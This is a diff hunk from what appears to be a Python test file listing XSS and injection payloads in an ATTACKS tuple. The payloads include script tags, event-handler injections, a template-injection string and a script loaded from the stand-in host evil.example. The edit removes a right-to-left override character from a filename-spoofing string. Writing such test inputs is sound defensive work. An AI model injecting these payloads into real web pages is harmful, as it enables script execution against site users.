@@ -27,7 +27,7 @@ ATTACKS = (
     "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">",
     "\"><svg onload=document.title='owned'>", "javascript:document.title='owned'", "{{constructor.constructor('1')()}}",
     "</title><script src=//evil.example/x.js></script>", "<iframe srcdoc='<script>parent.document.title=1</script>'>",
-    "\u202etxt.exe \U0001f600 \u05e9\u05dc\u05d5\u05dd",
+    "txt.exe \U0001f600 \u05e9\u05dc\u05d5\u05dd",
 )  # fmt: skip
 
 
